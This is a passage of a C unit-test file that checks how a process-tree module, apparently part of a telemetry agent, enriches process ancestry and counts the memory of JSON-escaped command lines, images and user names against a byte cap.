                    expect_json(anc[j].image, anc[j].image_json);
                    expect_json(anc[j].command_line, anc[j].command_line_json);
                    expect_json(anc[j].user, anc[j].user_json);
                    expect_json(anc[j].guid, anc[j].guid_json);
                }
            }
        }
        proctree_destroy(t);
    }
}

/* The JSON forms the table keeps for a process's strings (rendered once)
 * count in its byte bound, added when made and taken off when freed: the
 * bound is what the table's memory stays under. After a pass of enrich over
 * every live process, the table's bytes are its entries' (as if their
 * strings were copies) and the forms it gave; under a small bound, whose
 * forms would not fit beside the strings, it stays within it. */
static void enrich_counted(struct proctree *t, size_t per_entry, size_t cap, int from, int to)
{
    size_t want = 0;
    for (int i = from; i < to; i++) {
        const struct proc_entry *e = proctree_find(t, "h", NULL, i, INT64_MAX);
        if (!e)
            continue;
        struct stoat_process anc[PROCTREE_MAX_DEPTH];
        uint64_t tree, par;
        assert_int_equal(proctree_enrich(t, e, anc, 1, &tree, &par), 1);
        const struct stoat_process *a = &anc[0];
        want += per_entry + strlen(a->image) + 1 + strlen(a->command_line) + 1 + strlen(a->user) + 1;
        /* every string here is the entry's own: each form kept is one */
        const struct stoat_json_text forms[] = {a->image_json, a->command_line_json, a->user_json};
        for (size_t k = 0; k < 3; k++)
            want += forms[k].p ? forms[k].len + 1 : 0;
    }
    struct proctree_stats st;
    proctree_get_stats(t, &st);
    assert_int_equal(st.bytes, want);
    assert_true(st.bytes <= cap);
}

static void test_json_forms_counted(void **state)
{
    (void)state;
    /* what the bound counts for an entry besides its strings */
    struct proctree *t = proctree_create(100, 1 << 20);
    start_pid(t, "h", 1, -1, 1, "x"); /* "x" as image and command line */
    struct proctree_stats st;
    proctree_get_stats(t, &st);
    size_t per_entry = st.bytes - 4;
    proctree_destroy(t);

    for (int round = 0; round < 2; round++) {
        size_t cap = round ? 4096 : 1 << 20;
        t = proctree_create(100, cap);
        char img[64], cmd[400], user[64];
        for (int i = 0; i < 60; i++) {
            snprintf(img, sizeof img, "C:\\Program Files\\p%d\\a.exe", i);
            int n = snprintf(cmd, sizeof cmd, "\"%s\" /q ", img);
            memset(cmd + n, '\\', 300); /* doubled in JSON: kept (at most 2x + 2) */
            cmd[n + 300] = 0;
            snprintf(user, sizeof user, "DOM\\u%d", i);
            proctree_start(
                t,
                &(struct proc_start){
                    .host = "h", .pid = i, .ppid = -1, .time_ns = i, .image = img, .command_line = cmd, .user = user});
            enrich_counted(t, per_entry, cap, 0, i + 1);
        }
        proctree_get_stats(t, &st);
        assert_true(round ? st.evicted > 40 : st.evicted == 0);
        proctree_destroy(t); /* the forms go with their strings (the sanitizer build checks) */
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_pid_reuse),
        cmocka_unit_test(test_pid_chain_through_reused_slots),
        cmocka_unit_test(test_hosts_apart),
        cmocka_unit_test(test_guid_tree_and_stub_parent),
        cmocka_unit_test(test_fork_subshell_then_exec),
        cmocka_unit_test(test_cycle_and_depth),
        cmocka_unit_test(test_caps),
        cmocka_unit_test(test_strings_turn_over),
        cmocka_unit_test(test_strings_pooled),
        cmocka_unit_test(test_tree_top_pooled),
        cmocka_unit_test(test_maps_grow),
        cmocka_unit_test(test_maps_through_ring_turns),
        cmocka_unit_test(test_no_session_logon),
        cmocka_unit_test(test_recent_strings_as_pool),
        cmocka_unit_test(test_real_logon),
        cmocka_unit_test(test_enrich_as_three),
        cmocka_unit_test(test_json_forms),
        cmocka_unit_test(test_json_forms_counted),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
